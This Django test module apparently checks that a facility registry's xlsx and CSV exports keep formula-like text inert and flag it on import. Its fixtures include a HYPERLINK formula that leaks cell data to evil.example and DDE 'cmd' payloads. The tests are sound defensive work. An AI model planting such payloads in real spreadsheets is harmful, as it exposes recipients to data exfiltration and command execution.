"""Formula injection: text that begins like a formula stays text in every export (xlsx and
CSV), is flagged on import, and an export still re-imports to the same data."""

from __future__ import annotations

import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from linli.accounts.roles import Role
from linli.core.exports import csv_text, looks_like_formula, unquote_csv_text
from linli.core.testing import make_user
from linli.registry.exports import export_response
from linli.registry.imports import registry_import
from linli.registry.models import Facility
from linli.registry.services import facility_save
from tests.registry.importing import ImportTestCase

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0")


class TestGuards(ImportTestCase):
    def test_what_counts_as_a_formula(self):
        for text in HOSTILE:
            self.assertTrue(looks_like_formula(text), text)
        for text in ("甲一社区", "+86 (10) 6512-3456", "-5", "a=b"):
            self.assertFalse(looks_like_formula(text), text)

    def test_csv_quote_goes_on_and_comes_off(self):
        for text in (*HOSTILE, "\tx", "\rx", "甲"):
            self.assertEqual(unquote_csv_text(csv_text(text)), text)
        self.assertEqual(csv_text(HYPERLINK), "'" + HYPERLINK)
        self.assertEqual(csv_text("甲"), "甲")


class TestRegistryExports(ImportTestCase):
    def setUp(self):
        super().setUp()
        planner = make_user(self.tree, Role.STREET_OFFICER, self.tree.street_a, "writer")
        self.facility = facility_save(
            actor=planner,
            facility=None,
            functions=[],
            code="F-EVIL",
            name=HYPERLINK,
            jurisdiction=self.tree.community_a,
            kind="scattered",
            lon=113.6,
            lat=34.75,
            address="@SUM(1+1)*cmd|'/C calc'!A0",
            gross_floor_area_m2=Decimal("100.00"),
        )

    def export(self, fmt: str) -> bytes:
        return export_response(Facility, Facility.objects.all(), fmt).content

    def test_xlsx_keeps_formula_like_text_as_text(self):
        sheet = load_workbook(io.BytesIO(self.export("xlsx"))).active
        name, address = sheet["B2"], sheet["H2"]
        for cell, text in ((name, HYPERLINK), (address, self.facility.address)):
            self.assertEqual(cell.value, text)  # unchanged…
            self.assertEqual(cell.data_type, "s")  # …but a string, not a formula
            self.assertTrue(cell.quotePrefix)  # and stays text if someone edits it

    def test_csv_neutralises_and_reimports_unchanged(self):
        content = self.export("csv")
        self.assertIn(("'" + HYPERLINK.replace('"', '""')).encode(), content)
        path = self.folder / "facilities.csv"
        path.write_bytes(content)
        report = registry_import(actor=self.officer, kind="facility", path=path, dry_run=True)
        self.assertEqual((report.problems, report.unchanged), ([], 1))
        self.assertEqual({n.column for n in report.warnings}, {"设施名称", "地址"})

    def test_the_list_pages_xlsx_export_too(self):
        auditor = make_user(self.tree, Role.AUDITOR, self.tree.city, "auditor")
        self.client.force_login(auditor)
        response = self.client.get(reverse("audit:auditrecord_list"), {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        hostile = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
        self.assertTrue(hostile)
        self.assertTrue(all(c.data_type == "s" and c.quotePrefix for c in hostile))
